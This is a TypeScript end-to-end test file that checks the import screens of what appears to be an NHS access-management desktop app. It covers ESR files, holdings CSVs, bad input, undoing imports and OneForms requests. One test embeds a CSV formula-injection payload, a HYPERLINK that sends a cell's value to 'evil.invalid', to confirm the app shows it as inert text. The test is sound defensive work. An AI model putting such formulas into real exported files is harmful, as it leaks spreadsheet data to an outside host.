import { readFileSync, rmSync } from 'node:fs';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { inspectScreen } from '../support/inspect-screen.ts';
import type { Desk } from '../support/launch-desk.ts';
import { goTo, openRequest, sampleFile } from '../support/main-job.ts';
import { OWNER, openPrepared } from '../support/prepared-homes.ts';
import { badFiles, GO_FULL } from './bad-files.ts';
import { dropPath } from './drop-path.ts';
import { ownFiles } from './own-files.ts';
import {
  check,
  choose,
  dryRun,
  finished,
  importButton,
  importWhole,
  putAside,
  readRefusal,
  signInAs,
  standing,
} from './steps.ts';

// The imports in the real window, on a trust's own store: from an empty one to a register of 30,000 people.
const files = ownFiles('imports');
let desk: Desk;
beforeAll(async () => {
  desk = await openPrepared('owner-alone');
  await signInAs(desk, OWNER);
});
afterEach(async ({ task }) => {
  if (task.result?.state === 'fail')
    await desk.screenshot(`failed-${task.name.slice(0, 40).replaceAll(/\W+/g, '-')}`);
});
afterAll(() => desk?.close());

const COUNTS = /^[\d,]+ new, [\d,]+ changed, [\d,]+ ended, [\d,]+ failed$/;

describe('the first files', () => {
  test('a file of changes is refused before the first full one', async () => {
    const before = await standing(desk);
    await choose(desk, sampleFile('GO_919_TST_GOC_20261109_00000102.DAT'));
    await check(desk);
    expect(await readRefusal(desk)).toMatch(
      /cannot be imported before the first full file\. Import a full file \(GOF\) first\..*Nothing was changed/,
    );
    await putAside(desk);
    expect(await standing(desk)).toEqual(before);
  });

  test('the dry run of a full file says what it would do, and writes nothing', async () => {
    const before = await standing(desk);
    await choose(desk, sampleFile(GO_FULL));
    await check(desk);
    const card = await dryRun(desk);
    expect(await card.getByRole('status').textContent()).toMatch(COUNTS);
    expect(await card.getByRole('table', { name: 'Counts by record' }).textContent()).toContain('People');
    expect(await standing(desk)).toEqual(before);
    await importButton(desk).click();
    expect(await finished(desk)).toMatch(/[1-9]\d* new, 0 changed, 0 ended/);
    expect(await standing(desk)).not.toEqual(before);
  });

  test('the owner undoes a first file that was wrong, with a reason, and imports the right one', async () => {
    const { page } = desk;
    await goTo(desk, 'Imports');
    const past = page
      .getByRole('grid', { name: 'Past imports' })
      .getByRole('row')
      .filter({ hasText: GO_FULL });
    await past.click();
    const drawer = page.getByRole('dialog', { name: `Import of ${GO_FULL}` });
    await inspectScreen(desk, 'imports-past');
    await drawer.getByRole('button', { name: 'Undo the import…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Undo an import' });
    await dialog.getByText(/^[\d,]+ rows that it brought go\.$/).waitFor();
    await inspectScreen(desk, 'imports-undo');
    const confirm = dialog.getByRole('button', { name: 'Undo the import' });
    await confirm.click();
    await dialog.getByText('Say why in a few words').waitFor();
    await dialog.getByRole('textbox', { name: 'Reason' }).fill('It came from the test system.');
    await confirm.click();
    await dialog.waitFor({ state: 'detached' });
    await past.getByText('undone').waitFor();
    await page.getByRole('status').filter({ hasText: 'was imported' }).waitFor({ state: 'detached' });
    await past.click();
    await drawer.getByText('Undone', { exact: true }).waitFor();
    expect(await drawer.getByRole('button', { name: 'Undo the import…' }).count()).toBe(0);
    await page.keyboard.press('Escape');
    expect((await standing(desk)).sources).toMatchObject({
      sources: expect.arrayContaining([expect.objectContaining({ kind: 'go', importedAt: null, rows: 0 })]),
    });
    expect(await importWhole(desk, sampleFile(GO_FULL))).toMatch(/[1-9]\d* new, 0 changed, 0 ended/);
  });

  test('the first holdings ask how to take what ESR shows, and neither answer is given beforehand', async () => {
    await choose(desk, sampleFile('holdings-1.csv'));
    await check(desk);
    const card = await dryRun(desk);
    const answers = await card.getByRole('radio').all();
    expect(answers).toHaveLength(2);
    for (const answer of answers) expect(await answer.isChecked()).toBe(false);
    expect(await importButton(desk).isDisabled()).toBe(true);
    await card.getByText('Say first how to take what ESR already shows.').waitFor();
    const before = await standing(desk);
    expect(await standing(desk)).toEqual(before);
    await card.getByRole('radio', { name: /starting position/ }).check();
    await importButton(desk).click();
    await finished(desk);
    await choose(desk, sampleFile('holdings-2.csv'));
    await check(desk);
    expect(await (await dryRun(desk)).getByRole('radio').count()).toBe(0);
    await putAside(desk);
  });
});

describe('bad input of any kind gets one clear sentence and changes nothing', () => {
  test.each(badFiles(files))('$what', async ({ file, kind, says }) => {
    const before = await standing(desk);
    await choose(desk, file);
    const { page } = desk;
    // Refused at first sight, or only once the whole of it is read.
    const alert = page.getByRole('alert').filter({ hasText: 'was not taken' });
    const draft = page.getByLabel('Kind of file');
    await alert.or(draft).first().waitFor();
    if (await draft.isVisible()) {
      if (kind !== undefined) await draft.selectOption(kind);
      const button = page.getByRole('button', { name: 'Check the file' });
      await alert
        .or(page.locator('button:enabled', { hasText: 'Check the file' }))
        .first()
        .waitFor();
      if (!(await alert.isVisible())) await button.click();
    }
    const words = await readRefusal(desk);
    expect(words).toMatch(says);
    expect(words).toContain('Nothing was changed.');
    await putAside(desk);
    expect(await standing(desk)).toEqual(before);
  });

  test('training said to be holdings lacks its columns, and says which', async () => {
    await choose(desk, sampleFile('training.csv'));
    await desk.page.getByLabel('Kind of file').selectOption('holdings');
    await desk.page.getByText('Choose the column for “Responsibility”.').waitFor();
    expect(await desk.page.getByRole('button', { name: 'Check the file' }).isDisabled()).toBe(true);
    await putAside(desk);
  });

  test('a folder that is dropped', async () => {
    const before = await standing(desk);
    await goTo(desk, 'Imports');
    await dropPath(desk.page, files.makeFolder('a-folder'));
    expect(await readRefusal(desk)).toMatch(/cannot be read\. Check that it still exists/);
    expect(await standing(desk)).toEqual(before);
  });

  test('the control: a file that is dropped is taken', async () => {
    await dropPath(desk.page, sampleFile('as-numbers.csv'));
    await desk.page.getByRole('heading', { name: 'as-numbers.csv' }).waitFor();
    await putAside(desk);
  });

  test('a file that is gone when it is to be imported', async () => {
    const file = files.write('going.csv', readFileSync(sampleFile('as-numbers.csv')));
    await choose(desk, file);
    await desk.page.getByLabel('When was the extract taken?').fill('2026-11-02T08:00');
    await check(desk);
    await dryRun(desk);
    const before = await standing(desk);
    rmSync(file);
    await importButton(desk).click();
    expect(await readRefusal(desk)).toMatch(/cannot be read\. Check that it still exists/);
    await putAside(desk);
    expect(await standing(desk)).toEqual(before);
  });

  test('a file that has changed since it was checked is checked again first', async () => {
    const was = readFileSync(sampleFile('as-numbers.csv'), 'latin1');
    const file = files.write('changing.csv', was);
    await choose(desk, file);
    await desk.page.getByLabel('When was the extract taken?').fill('2026-11-02T08:00');
    await check(desk);
    await dryRun(desk);
    const before = await standing(desk);
    files.write('changing.csv', was.replace('AS200002', 'AS999999'));
    await importButton(desk).click();
    expect(await readRefusal(desk)).toMatch(/changed since it was checked\. Check it again, then import it/);
    expect(await standing(desk)).toEqual(before);
    await desk.page.getByRole('button', { name: 'Check the file' }).waitFor();
    await putAside(desk);
  });
});

describe('what a table says', () => {
  test('rows that fail are told by kind, with lines, never with what they say; the unknown is listed', async () => {
    const file = files.write(
      'holdings-mixed.csv',
      [
        'Active Responsibilities',
        'Run date: 03-Nov-2026 07:15',
        'Employee Number,User Name,Full Name,Responsibility,Start Date',
        '2303x721,919ZQLEAK01,"Zqleak, Ms. Row",919 Local Reports,01-Nov-2026',
        '23030721,919SCLAYTON01,"Zqleak, Ms. Date",919 Local Reports,99-Zqleak-2026',
        '99887766,919NOBODY01,"Nobody, Ms. Known",919 Local Reports,01-Nov-2026',
        '23030721,919SCLAYTON01,"Clayton, Ms.",919 Zqwizard Access,01-Nov-2026',
        '',
      ].join('\r\n'),
    );
    await choose(desk, file);
    await check(desk);
    const card = await dryRun(desk);
    const failures = await card.getByRole('table', { name: 'Failures' }).getByRole('row').allTextContents();
    expect(failures.join('\n')).not.toMatch(/zqleak|2303x721/i);
    expect(failures).toHaveLength(3);
    for (const row of failures.slice(1))
      expect(row).toMatch(
        /^1Holdings(Employee number cannot be read surely as a number\.4|Start date is not a date\.5)$/,
      );
    const unknown = await card.getByRole('table', { name: 'Unknown' }).textContent();
    expect(unknown).toMatch(/6Person99887766/);
    expect(unknown).toMatch(/7AccessZqwizard Access/);
    await desk.screenshot('imports-dry-run');
    await putAside(desk);
  });

  test('a full file out of turn is taken after a reason; its report says each thing once', async () => {
    const rows = readFileSync(sampleFile(GO_FULL), 'utf8').split(/\r?\n/);
    const name = GO_FULL.replace('20261102_00000101', '20261102_00000120');
    const grown = rows
      .slice(1, -2)
      .map((row, i) =>
        row.startsWith('ASA') ? `${row}~` : i < 700 && row.startsWith('PRA') ? row.slice(0, -2) : row,
      );
    const other = ['ELA', 'ABA', 'QLA'].flatMap((type) =>
      Array.from({ length: 100 }, () => `${type}~1~20260101`),
    );
    const body = [...grown, ...other];
    const text = [rows[0]?.replace(GO_FULL, name), ...body, `TRL~${body.length + 2}`, ''].join('\r\n');
    await choose(desk, files.write(name, text));
    await check(desk);
    const card = await dryRun(desk);
    const remarks = (await card.getByRole('list', { name: 'Remarks' }).textContent()) ?? '';
    expect(remarks).toMatch(/Fields were added at the end of rows: ASA has 51 \(50 are known\)\./);
    expect(remarks).toMatch(/300 rows of other types, not needed here: ABA 100, ELA 100, QLA 100\./);
    const failures = await card.getByRole('table', { name: 'Failures' }).getByRole('row').allTextContents();
    expect(failures).toHaveLength(2);
    expect(failures[1]).toMatch(/^\d+PeopleIt has 42 fields instead of 44\.\d+, .* and \d+ more$/);
    await card.getByText(/run 120, but run 102 is due/).waitFor();
    expect(await importButton(desk).isDisabled()).toBe(true);
    const why = card.getByRole('textbox', { name: /^Why is it taken\?/ });
    await why.fill('Runs 102 to 119 were lost in ESR’s downtime.');
    await inspectScreen(desk, 'imports-out-of-turn');
    await importButton(desk).click();
    expect(await finished(desk)).toMatch(/failed/);
  });

  test('a file with foreign headings is matched by hand once, and remembered', async () => {
    const { page } = desk;
    const table = (rows: readonly string[]) =>
      Buffer.from(
        [
          'Finance systems – café list',
          'Printed for the ESR team',
          'Wer;Kennung;Am;Bemerkung',
          ...rows,
          '',
        ].join('\r\n'),
        'utf8',
      );
    const asWindows1252 = (utf8: Buffer) =>
      Buffer.from(utf8.toString('utf8').replaceAll('–', '\u0096'), 'latin1');
    const first = files.write(
      'finance.csv',
      asWindows1252(table(['23030721;AS777001;03/04/2026;café', '23005242;AS777002;25/12/2025;façade'])),
    );
    await choose(desk, first);
    await page.getByLabel('Kind of file').selectOption('as-numbers');
    await page.getByText(/Headings on line 3, windows-1252, separated by semicolons/).waitFor();
    await page.getByLabel('Column for Employee number').selectOption('Wer');
    await page.getByLabel('Column for AS number').selectOption('Kennung');
    await page.getByLabel('Column for Issued on').selectOption('Am');
    await page.getByLabel('When was the extract taken?').fill('2026-11-03T08:00');
    await desk.screenshot('imports-mapping');
    await check(desk);
    expect(await (await dryRun(desk)).getByRole('status').textContent()).toMatch(
      /^2 new, 0 changed, \d+ ended, 0 failed$/,
    );
    await importButton(desk).click();
    await finished(desk);
    const person = await page.evaluate(async () => {
      const answer = await window.api.register.getPerson({ employeeNumber: '23030721' });
      return answer.ok ? JSON.stringify(answer.data) : answer.code;
    });
    expect(person).toContain('AS777001');
    expect(person).toContain('2026-04-03');

    const second = files.write(
      'finance-later.csv',
      asWindows1252(table(['23030721;AS777003;04/04/2026;café'])),
    );
    await choose(desk, second);
    await page.getByLabel('Kind of file').selectOption('as-numbers');
    await page.getByText('Columns as last time.').waitFor();
    expect(await page.getByLabel('Column for AS number').inputValue()).toBe('Kennung');
    expect(await page.getByLabel('Column for Issued on').inputValue()).toBe('Am');
    await putAside(desk);
  });
});

describe('OneForms', () => {
  const FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"Click")';
  const CSV_HEAD =
    'Reference,Submitted At,Requester Name,Requester Employee Number,Beneficiary Number,Beneficiary Name,Access Requested,Justification,Line Manager Name,Line Manager Employee Number,Line Manager Authorised,Authorised By,Authorised By Employee Number,Authorised At,Attachments';
  const csv = `${CSV_HEAD}\r\nSR9000001,02/11/2026 09:00,+Requester,23005242,23030721,@Beneficiary,Local Reports,"${FORMULA.replaceAll('"', '""')}",-Manager,23046996,Yes,-Manager,23046996,02/11/2026 10:00,=form.pdf\r\n`;
  const revised = {
    source: 'Service Desk portal',
    exportedAt: '2026-11-04T07:30:00+00:00',
    forms: [
      {
        reference: 'SR9000001',
        submittedAt: '2026-11-02T09:00:00+00:00',
        requester: { name: '+Requester', employeeNumber: '23005242' },
        beneficiary: { number: '23030721', name: '@Beneficiary' },
        accessRequested: 'Local BI Reports',
        justification: 'The monthly board report is written by this post.',
        lineManager: { name: '-Manager', employeeNumber: '23046996' },
        authorisation: {
          authorised: true,
          by: '-Manager',
          byEmployeeNumber: '23046996',
          at: '2026-11-02T10:00:00+00:00',
        },
        attachments: ['=form.pdf'],
      },
    ],
  };

  test('imported twice are there once', async () => {
    const file = files.write('oneforms-again.csv', csv);
    expect(await importWhole(desk, file)).toMatch(/1 new, 0 changed, 0 ended, 0 failed/);
    const { requests } = await standing(desk);
    expect(requests).toMatchObject({ total: 1 });
    await choose(desk, file);
    await check(desk);
    await (await dryRun(desk)).getByText('This is the file that was imported last.').waitFor();
    await importButton(desk).click();
    expect(await finished(desk)).toMatch(/0 new, 0 changed, 0 ended, 0 failed/);
    expect((await standing(desk)).requests).toEqual(requests);
  });

  test('what looks like a formula is shown, and copied, as the text it is', async () => {
    const { page } = desk;
    await openRequest(desk, 'SR9000001');
    const card = page.getByRole('region', { name: 'OneForm, version 1' });
    const written = card.getByText(FORMULA, { exact: true });
    await written.waitFor();
    expect(await card.getByRole('link').count()).toBe(0);
    for (const text of ['+Requester (23005242)', '@Beneficiary (23030721)', '=form.pdf'])
      await card.getByText(text, { exact: true }).waitFor();
    await desk.app.evaluate(async ({ clipboard }) => clipboard.writeText('before'));
    await written.click({ clickCount: 3 });
    await page.keyboard.press('Control+c');
    const copied = () => desk.app.evaluate(async ({ clipboard }) => clipboard.readText());
    await expect.poll(async () => (await copied()).trim()).toBe(FORMULA);
    await desk.screenshot('imports-formula');
  });

  test('a changed form is version 2 of the same request, with what changed', async () => {
    const { page } = desk;
    const file = files.write('oneforms-revised.json', JSON.stringify(revised));
    expect(await importWhole(desk, file)).toMatch(/0 new, 1 changed, 0 ended, 0 failed/);
    expect((await standing(desk)).requests).toMatchObject({ total: 1 });
    await openRequest(desk, 'SR9000001');
    const card = page.getByRole('region', { name: 'OneForm, version 2' });
    await card.getByRole('button', { name: /^Version 2,/ }).click();
    const changed = card.getByRole('table', { name: 'What changed' });
    await changed.waitFor();
    await changed.locator('del', { hasText: FORMULA }).waitFor();
    await changed.locator('ins', { hasText: 'The monthly board report' }).waitFor();
    await changed.locator('ins', { hasText: 'Local BI Reports' }).waitFor();
    expect(await changed.getByRole('row').count()).toBe(3);
    await desk.screenshot('imports-version-2');
  });
});
